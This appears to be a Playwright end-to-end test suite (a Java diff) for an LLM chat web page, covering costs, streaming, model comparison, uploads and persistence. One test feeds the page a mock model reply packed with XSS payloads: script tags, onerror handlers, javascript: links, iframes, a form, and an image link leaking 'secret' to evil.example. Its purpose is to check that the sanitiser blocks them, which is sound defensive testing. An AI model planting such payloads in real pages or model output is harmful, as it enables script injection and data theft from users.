@@ -1,0 +1,273 @@
+package dev.jarvis.server.browser;
+
+import com.microsoft.playwright.Locator;
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.options.AriaRole;
+import com.microsoft.playwright.options.FilePayload;
+import dev.jarvis.testkit.Await;
+import dev.jarvis.testkit.provider.Gate;
+import dev.jarvis.testkit.provider.Script;
+import dev.jarvis.testkit.provider.Scripts;
+import dev.jarvis.testkit.provider.Step;
+import dev.jarvis.testkit.provider.Usage;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+import java.util.Base64;
+import java.util.List;
+import java.util.Map;
+import java.util.regex.Pattern;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** The playground: a conversation with a model, and everything that can come of it. */
+class ChatPageTest extends BrowserTest {
+    private static final byte[] PIXEL = Base64.getDecoder()
+            .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
+
+    private static final String FORGOTTEN =
+            "async () => (await indexedDB.databases()).every(({ name }) => name !== 'jarvis.chat')";
+    private static final String KEPT = """
+            async () => {
+                if (!(await indexedDB.databases()).some(({ name }) => name === 'jarvis.chat')) {
+                    return false;
+                }
+                const done = (request) => new Promise((resolve) => { request.onsuccess = () => resolve(request.result); });
+                const database = await done(indexedDB.open('jarvis.chat'));
+                const all = await done(database.transaction('conversations').objectStore('conversations').getAll());
+                database.close();
+                return JSON.stringify(all).includes('"cost":[{');
+            }
+            """;
+
+    @BeforeAll
+    void models() {
+        server.createModel("seer", Map.of("supports_vision", true, "max_tokens", 1000));
+        server.createModel("plain", Map.of("max_tokens", 1000));
+    }
+
+    @BeforeEach
+    void forget() {
+        provider.reset();
+    }
+
+    @Test
+    void anAnswerShowsItsTokensAndWhatItCost() {
+        provider.script(Script.chat().words("Hello", " **there**").usage(Usage.of(1000, 2000)));
+        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");
+
+        say(page, "Hi");
+
+        assertThat(page.locator(".markdown strong")).hasText("there");
+        // 1000 × 1 USD and 2000 × 2 USD a million
+        assertThat(page.locator(".chat-cost")).hasText("$0.005");
+        assertThat(page.locator(".chat-facts")).containsText("1,000 → 2,000 tokens");
+        assertThat(page.locator(".chat-facts")).containsText("first word");
+    }
+
+    @Test
+    void aStreamIsStoppedKeptAndAskedForAgain() {
+        Gate gate = new Gate();
+        provider.scriptNext(Scripts.tokensThen(3, new Step.Pause(gate), new Step.End()));
+        Page page = administrator(Look.CHINESE).open("/chat?model=plain");
+
+        say(page, "数到十");
+        gate.awaitReached();
+        assertThat(page.locator(".markdown")).containsText("t2");
+        page.getByRole(AriaRole.BUTTON, named("^停止$")).first().click();
+
+        assertThat(page.getByText("已停止")).isVisible();
+        assertThat(page.locator(".markdown")).containsText("t2");
+        gate.open();
+        provider.script(Script.chat().words("一二三"));
+        page.getByRole(AriaRole.BUTTON, named("重新回答")).click();
+        assertThat(page.locator(".markdown")).hasText("一二三");
+        page.getByRole(AriaRole.GROUP, new Page.GetByRoleOptions().setName("回答版本"))
+                .getByRole(AriaRole.BUTTON)
+                .first()
+                .click();
+        assertThat(page.locator(".markdown")).containsText("t2");
+    }
+
+    @Test
+    void twoModelsAnswerTheSameQuestionSideBySide() {
+        provider.whenModel("seer", Script.chat().words("from the seer"));
+        provider.whenModel("plain", Script.chat().words("from the plain one"));
+        Visitor visitor = administrator(Look.ENGLISH);
+        Page page = visitor.open("/chat?model=plain");
+
+        page.getByRole(AriaRole.BUTTON, named("^Compare$")).click();
+        choose(page, "Model 2", "Test model seer");
+        say(page, "Who are you?");
+
+        assertThat(page.getByRole(AriaRole.REGION, new Page.GetByRoleOptions().setName("Answer of plain")))
+                .containsText("from the plain one");
+        assertThat(page.getByRole(AriaRole.REGION, new Page.GetByRoleOptions().setName("Answer of seer")))
+                .containsText("from the seer");
+        assertThat(page.locator(".chat-cost")).hasCount(2);
+        visitor.screenshot("chat-compare");
+    }
+
+    @Test
+    void aPictureGoesToModelsThatSeeAndToNoOthers() {
+        provider.script(Script.chat().words("A red dot."));
+        Page page = administrator(Look.ENGLISH).open("/chat?model=seer");
+
+        page.locator("input[type=file]").setInputFiles(new FilePayload("dot.png", "image/png", PIXEL));
+        assertThat(page.getByAltText("dot.png")).isVisible();
+        say(page, "What is this?");
+
+        assertThat(page.locator(".markdown")).hasText("A red dot.");
+        assertThat(provider.lastReceived().json().at("/messages/0/content/1/image_url/url").asString())
+                .startsWith("data:image/png;base64,");
+        choose(page, "Model", "Test model plain");
+        assertThat(page.getByRole(AriaRole.BUTTON, named("Add a picture"))).isDisabled();
+    }
+
+    @Test
+    void onlyParametersThatAreSetAreSent() {
+        provider.script(Script.chat());
+        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");
+
+        say(page, "one");
+        assertThat(page.locator(".markdown")).hasCount(1);
+        assertThat(provider.lastReceived().json().propertyNames()).doesNotContain("temperature", "top_p", "max_tokens");
+        page.getByRole(AriaRole.BUTTON, named("^Settings$")).click();
+        page.getByLabel("System prompt").fill("Be brief.");
+        page.getByLabel("Temperature").fill("0.3");
+        page.keyboard().press("Escape");
+        say(page, "two");
+
+        assertThat(page.locator(".markdown")).hasCount(2);
+        assertThat(provider.lastReceived().json().path("temperature").asDouble()).isEqualTo(0.3);
+        assertThat(provider.lastReceived().json().at("/messages/0/content").asString()).isEqualTo("Be brief.");
+    }
+
+    @Test
+    void anEditedQuestionStandsBesideTheOldOne() {
+        provider.script(Script.chat().words("first answer"));
+        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");
+        say(page, "first question");
+        assertThat(page.locator(".markdown")).hasText("first answer");
+
+        provider.script(Script.chat().words("second answer"));
+        page.getByRole(AriaRole.BUTTON, named("^Edit$")).click();
+        page.getByLabel("Edit your message").fill("second question");
+        page.getByRole(AriaRole.BUTTON, named("Send again")).click();
+
+        assertThat(page.locator(".markdown")).hasText("second answer");
+        assertThat(provider.lastReceived().json().path("messages").size()).isEqualTo(1);
+        page.getByRole(AriaRole.BUTTON, named("Earlier version")).click();
+        assertThat(page.locator(".markdown")).hasText("first answer");
+    }
+
+    @Test
+    void shiftEnterBreaksTheLineAndAnInputMethodsEnterSendsNothing() {
+        int before = provider.received().size();
+        Page page = administrator(Look.CHINESE).open("/chat?model=plain");
+        Locator box = page.getByLabel("消息内容");
+
+        box.fill("第一行");
+        box.press("Shift+Enter");
+        box.evaluate(
+                "(area) => area.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, isComposing: true }))");
+
+        assertThat(box).hasValue("第一行\n");
+        assertThat(provider.received()).hasSize(before);
+    }
+
+    @Test
+    void m_hostileOutputRunsNothingLoadsNothingAndBreaksNothing() {
+        provider.script(Script.chat()
+                .words(
+                        "<script>window.hit = 1</script><img src=x onerror='window.hit = 2'><style>body{display:none}</style>\n\n",
+                        "[a](javascript:window.hit=3) [b](data:text/html,x) ![c](https://evil.example/?said=secret)\n\n",
+                        "<iframe src='javascript:window.hit=4'></iframe> <a href='javascript:window.hit=5'>d</a>\n\n",
+                        "$\\href{javascript:window.hit=6}{x}$ $x^2$\n\n",
+                        "<form action='https://evil.example'><input name=p></form>\n\n",
+                        "y".repeat(300_000),
+                        "\n\n**the end**"));
+        Visitor visitor = administrator(Look.ENGLISH);
+        Page page = visitor.open("/chat?model=plain");
+
+        say(page, "evil");
+
+        assertThat(page.locator(".markdown strong")).hasText("the end");
+        assertThat(page.locator(".katex").first()).isAttached();
+        assertThat(page.getByText("<script>window.hit = 1</script>")).isVisible();
+        assertThat(page.evaluate("window.hit")).isNull();
+        assertThat(page.locator(".markdown").locator("script, style, iframe, form, img, [onerror]")).hasCount(0);
+        List<String> links = page.locator(".markdown a").evaluateAll("(all) => all.map((one) => one.href)") instanceof List<?> found
+                ? found.stream().map(String::valueOf).toList()
+                : List.of();
+        assertThat(links).containsExactly("https://evil.example/?said=secret");
+        assertThat(page.locator(".markdown a")).hasAttribute("rel", Pattern.compile("noopener"));
+    }
+
+    @Test
+    void aProviderThatFailsIsToldInWords() {
+        provider.script(Scripts.serverError(500));
+        Page page = administrator(Look.ENGLISH).expects(502).expects(503).open("/chat?model=plain");
+
+        say(page, "Hi");
+
+        assertThat(page.getByText("The provider fails at the moment")).isVisible();
+        provider.script(Script.chat().words("back again"));
+        assertThat(page.getByRole(AriaRole.BUTTON, named("Try again"))).isEnabled();
+    }
+
+    @Test
+    void conversationsOutliveAReloadAndNotALogout() {
+        provider.script(Script.chat().words("remember me"));
+        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");
+        say(page, "A question to keep");
+        assertThat(page.locator(".chat-cost")).isVisible();
+        Await.until("the browser keeps the conversation", () -> (Boolean) page.evaluate(KEPT));
+
+        page.reload();
+        page.getByRole(AriaRole.BUTTON, named("^A question to keep$")).click();
+        assertThat(page.locator(".markdown")).hasText("remember me");
+        page.getByRole(AriaRole.BUTTON, named("Your account")).click();
+        page.getByRole(AriaRole.MENUITEM, new Page.GetByRoleOptions().setName("Log out")).click();
+        page.waitForURL("**/login");
+        Await.until("the browser forgets the conversation", () -> (Boolean) page.evaluate(FORGOTTEN));
+    }
+
+    @Test
+    void theChatIsForEveryoneAndForPhones() {
+        provider.script(Script.chat()
+                .reasoning("Let me see.")
+                .words("Some `code`:\n\n```python\nprint('hi')  # a comment\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.com)"));
+        for (Look look : List.of(Look.ENGLISH, Look.CHINESE.dark().on(Look.Size.PHONE))) {
+            Visitor visitor = administrator(look);
+            Page page = visitor.open("/chat?model=plain");
+            page.locator(".chat-box textarea").fill("Show me");
+            page.locator(".chat-box textarea").press("Enter");
+            assertThat(page.locator(".markdown .token").first()).isAttached();
+            assertThat(page.locator(".chat-cost")).isVisible();
+
+            Axe.findsNothing(page);
+            assertThat((Boolean) page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"))
+                    .as("nothing hangs over the edge of " + look)
+                    .isTrue();
+            visitor.screenshot("chat");
+        }
+    }
+
+    private static void say(Page page, String text) {
+        Locator box = page.locator(".chat-box textarea");
+        box.fill(text);
+        box.press("Enter");
+    }
+
+    private static void choose(Page page, String picker, String model) {
+        page.getByRole(AriaRole.COMBOBOX, new Page.GetByRoleOptions().setName(picker).setExact(true)).click();
+        page.locator(".ant-select-dropdown:visible").getByText(model).first().click();
+    }
+
+    private static Page.GetByRoleOptions named(String pattern) {
+        return new Page.GetByRoleOptions().setName(Pattern.compile(pattern));
+    }
+}
